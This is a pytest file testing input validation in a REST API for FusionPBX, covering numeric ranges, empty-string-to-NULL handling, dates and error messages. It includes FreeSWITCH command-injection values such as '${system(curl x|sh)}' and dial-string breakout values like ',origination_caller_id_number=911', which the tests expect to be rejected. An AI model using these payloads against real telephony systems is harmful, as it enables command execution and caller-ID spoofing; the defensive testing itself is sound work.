"""Values at the edges of the core fields: numbers as ASCII digits within the column's
range, "" as NULL where FusionPBX stores NULL, dates past the calendar, and the
contract's wording for a missing field."""

from __future__ import annotations

import pytest

NOT_ASCII_DIGITS = ["²", "١٢", "9" * 5000, "1_000", " 5", "5\n", "-1"]


def field_errors(response) -> dict[str, str]:
    return {e["field"]: e["message"] for e in response.json["error"]["errors"]}


@pytest.mark.parametrize("value", [*NOT_ASCII_DIGITS, "1001"])
@pytest.mark.parametrize("field", ["limit_max", "max_registrations"])
def test_extension_number_strings_are_ascii_digits_within_range(client, tenants, fpbx_db,
                                                                field, value):
    r = client.post("/api/v1/extensions", json={"extension": "1001", field: value},
                    headers=tenants.a.headers)
    assert r.status_code == 400, r.json
    assert field in field_errors(r)
    assert fpbx_db.rows("v_extensions") == []


@pytest.mark.parametrize("value", [*NOT_ASCII_DIGITS, "too big"])
@pytest.mark.parametrize("field, too_big", [
    ("ping", "86401"), ("ping_min", "86401"), ("ping_max", "86401"),
    ("expire_seconds", "65536"), ("retry_seconds", "65536"), ("channels", "100001")])
def test_gateway_numbers_are_ascii_digits_within_range(client, tenants, fpbx_db, field,
                                                       too_big, value):
    value = too_big if value == "too big" else value
    r = client.post("/api/v1/gateways", json={"gateway": "gw", "proxy": "sip.example.net",
                                              field: value}, headers=tenants.a.headers)
    assert r.status_code == 400, r.json
    assert field in field_errors(r)
    assert fpbx_db.rows("v_gateways") == []


def test_ascii_number_strings_are_stored_as_sent(client, tenants, fpbx_db):
    r = client.post("/api/v1/extensions", json={"extension": "1001", "limit_max": "5",
                                                "max_registrations": 3},
                    headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    (row,) = fpbx_db.rows("v_extensions")
    assert (row["limit_max"], row["max_registrations"]) == ("5", "3")
    r = client.post("/api/v1/gateways", json={"gateway": "gw", "proxy": "sip.example.net",
                                              "ping": "25", "expire_seconds": "800"},
                    headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    (row,) = fpbx_db.rows("v_gateways")
    assert (row["ping"], int(row["expire_seconds"])) == ("25", 800)


def test_a_setting_of_non_ascii_digits_falls_back_to_the_default(client, tenants, fpbx_db):
    fpbx_db.execute(
        "INSERT INTO v_default_settings (default_setting_uuid, default_setting_category, "
        "default_setting_subcategory, default_setting_name, default_setting_value, "
        "default_setting_enabled) VALUES (gen_random_uuid(), 'extension', 'password_length', "
        "'numeric', '²', true), (gen_random_uuid(), 'voicemail', 'password_length', "
        "'numeric', :long, true)", long="9" * 5000)
    r = client.post("/api/v1/extensions", json={"extension": "1001"},
                    headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    assert len(r.json["data"]["password"]) == 20 and len(r.json["data"]["voicemail_password"]) == 8


@pytest.mark.parametrize("query", ["end_date=9999-12-31",
                                   "start_date=2024-01-01&end_date=9999-12-31"])
def test_cdr_end_date_past_the_calendar_is_400(client, tenants, query):
    r = client.get(f"/api/v1/cdr?{query}", headers=tenants.a.headers)
    assert r.status_code == 400 and "end_date" in field_errors(r)
    assert client.get("/api/v1/cdr?end_date=9999-12-30", headers=tenants.a.headers).status_code \
        == 200


def test_a_missing_required_field_is_named_in_the_message(client, tenants):
    r = client.post("/api/v1/extensions", json={}, headers=tenants.a.headers)
    assert r.status_code == 400
    assert r.json["error"]["message"] == "Validation failed"
    assert {"field": "extension", "message": "extension is required"} in r.json["error"]["errors"]
    r = client.post("/api/v1/ring-groups", json={"ring_group_name": "Sales", "destinations": [
        {"destination_delay": 0}], "ring_group_extension": "2000"}, headers=tenants.a.headers)
    assert field_errors(r) == {
        "destinations.0.destination_number": "destinations.0.destination_number is required"}


def test_empty_strings_are_null_where_fusionpbx_stores_null(client, tenants, fpbx_db):
    r = client.post("/api/v1/ring-groups", json={
        "ring_group_name": "Sales", "ring_group_extension": "2000", "ring_group_exit_key": "",
        "ring_group_missed_call_app": "", "ring_group_call_timeout": "",
        "destinations": [{"destination_number": "1001", "destination_prompt": ""}]},
        headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    (group,) = fpbx_db.rows("v_ring_groups")
    assert (group["ring_group_exit_key"], group["ring_group_missed_call_app"],
            group["ring_group_call_timeout"]) == (None, None, None)
    assert fpbx_db.rows("v_ring_group_destinations")[0]["destination_prompt"] is None
    r = client.post("/api/v1/gateways", json={
        "gateway": "gw", "proxy": "sip.example.net", "register_transport": "",
        "sip_cid_type": "", "expire_seconds": "", "channels": ""}, headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    (gateway,) = fpbx_db.rows("v_gateways")
    assert [gateway[c] for c in ("register_transport", "sip_cid_type", "expire_seconds",
                                 "channels")] == [None] * 4
    r = client.post("/api/v1/extensions", json={"extension": "1001", "user_uuid": "",
                                                "user_record": "", "call_timeout": ""},
                    headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    (extension,) = fpbx_db.rows("v_extensions")
    assert (extension["user_record"], extension["call_timeout"]) == (None, None)
    assert fpbx_db.rows("v_extension_users") == []


@pytest.mark.parametrize("body", [{"extension": ""}, {"extension": "1001", "enabled": ""},
                                  {"extension": "1001", "voicemail_password": ""}])
def test_empty_strings_stay_errors_where_null_is_not_allowed(client, tenants, body):
    """A required number, a boolean ("" would silently read as false) and a PIN."""
    r = client.post("/api/v1/extensions", json=body, headers=tenants.a.headers)
    assert r.status_code == 400, r.json


# FreeSWITCH runs ${command(args)} found in the variables FusionPBX's Lua sets from these
# fields (app/switch/resources/scripts/app/ring_groups/index.lua): only ${name} may stay.
API_CALLS = ["${system(curl x|sh)}", "${sh(id)}", "Sales ${system(id)}", "${${a}}",
             "${a:0:3}", "$${system(id)}", "${unclosed"]


@pytest.mark.parametrize("value", API_CALLS)
@pytest.mark.parametrize("path, body, field", [
    ("/api/v1/ring-groups", {"ring_group_name": "Sales", "ring_group_extension": "2000"},
     "ring_group_ringback"),
    ("/api/v1/ring-groups", {"ring_group_name": "Sales", "ring_group_extension": "2000"},
     "ring_group_cid_name_prefix"),
    ("/api/v1/ring-groups", {"ring_group_name": "Sales", "ring_group_extension": "2000"},
     "ring_group_distinctive_ring"),
    ("/api/v1/extensions", {"extension": "1001"}, "effective_caller_id_name"),
])
def test_freeswitch_api_calls_in_text_are_400(client, tenants, fpbx_db, path, body, field,
                                              value):
    before = fpbx_db.fingerprint()
    r = client.post(path, json={**body, field: value}, headers=tenants.a.headers)
    assert r.status_code == 400, r.json
    assert "${" in field_errors(r)[field]
    assert fpbx_db.fingerprint() == before


def test_patterned_fields_refuse_api_calls_too(client, tenants, fpbx_db):
    """A pattern that lets ``$`` and braces through (an e-mail address may hold them)."""
    r = client.post("/api/v1/extensions", json={"extension": "1001",
                                                "voicemail_mail_to": "${system(id)}@x.com"},
                    headers=tenants.a.headers)
    assert r.status_code == 400, r.json
    assert "${" in field_errors(r)["voicemail_mail_to"]
    assert fpbx_db.rows("v_extensions") == []


def test_plain_variables_stay_valid(client, tenants, fpbx_db):
    """FusionPBX's own values: its default ringback and the global hold music."""
    r = client.post("/api/v1/ring-groups", json={
        "ring_group_name": "Sales", "ring_group_extension": "2000",
        "ring_group_ringback": "${us-ring}", "ring_group_cid_name_prefix": "Sales"},
        headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    assert fpbx_db.rows("v_ring_groups")[0]["ring_group_ringback"] == "${us-ring}"
    r = client.post("/api/v1/extensions", json={"extension": "1001",
                                                "hold_music": "$${hold_music}"},
                    headers=tenants.a.headers)
    assert r.status_code == 201, r.json
    assert fpbx_db.rows("v_extensions")[0]["hold_music"] == "$${hold_music}"


# Fields FusionPBX's Lua writes into dial strings' variable blocks ([a=b,c=d]): a comma
# adds variables of the caller's choosing, a bracket or quote ends the block.
RING_GROUP = ("/api/v1/ring-groups", {"ring_group_name": "Sales",
                                      "ring_group_extension": "2000"})
EXTENSION = ("/api/v1/extensions", {"extension": "1001"})
DIAL_STRING_FIELDS = [
    (*EXTENSION, "hold_music", "local_stream://default"),
    (*EXTENSION, "hold_music", "$${hold_music}"),
    (*EXTENSION, "hold_music", "/var/lib/freeswitch/recordings/example.com/hold.wav"),
    (*EXTENSION, "outbound_caller_id_number", "+15551234567"),
    (*EXTENSION, "outbound_caller_id_name", "Acme Sales"),
    (*EXTENSION, "toll_allow", "domestic,international,local"),
    (*RING_GROUP, "ring_group_caller_id_number", "2000"),
    (*RING_GROUP, "ring_group_caller_id_name", "Sales Team"),
]
BREAKOUTS = [",origination_caller_id_number=911", "]sofia/gateway/x/1", "}x",
             "'x", '"x', "a{b", "a[b"]


@pytest.mark.parametrize("path, body, field, valid", DIAL_STRING_FIELDS)
def test_dial_string_fields_refuse_what_ends_a_variable(client, tenants, fpbx_db, path,
                                                         body, field, valid):
    before = fpbx_db.fingerprint()
    for breakout in BREAKOUTS + ([] if field.endswith("_name") else [" x"]):
        if field == "toll_allow" and breakout.startswith(","):
            breakout = ",local]x"  # commas separate entries there; a bracket still ends
        r = client.post(path, json={**body, field: valid + breakout},
                        headers=tenants.a.headers)
        assert r.status_code == 400, (field, breakout, r.json)
        assert field in field_errors(r)
        assert fpbx_db.fingerprint() == before
    r = client.post(path, json={**body, field: valid}, headers=tenants.a.headers)
    assert r.status_code == 201, r.json


def test_a_control_character_in_voicemail_mail_to_is_400(client, tenants, fpbx_db):
    """PostgreSQL cannot store NUL: it was a 500 (found by the fuzzer)."""
    r = client.post("/api/v1/extensions", json={"extension": "1001",
                                                "voicemail_mail_to": "a\x00b@example.com"},
                    headers=tenants.a.headers)
    assert r.status_code == 400, r.get_data(as_text=True)
    assert "voicemail_mail_to" in field_errors(r)


@pytest.mark.parametrize("value", [3.7, 0.5, "3.7"])
def test_a_fraction_is_not_an_integer(client, tenants, fpbx_db, value):
    """marshmallow alone would store int(3.7), 3, and report success."""
    r = client.post("/api/v1/gateways", json={"gateway": "gw", "proxy": "sip.example.net",
                                              "retry_seconds": value},
                    headers=tenants.a.headers)
    assert r.status_code == 400 and "retry_seconds" in field_errors(r), r.json
    assert fpbx_db.rows("v_gateways") == []
    r = client.post("/api/v1/gateways", json={"gateway": "gw", "proxy": "sip.example.net",
                                              "retry_seconds": 30.0},
                    headers=tenants.a.headers)
    assert r.status_code == 201, r.json
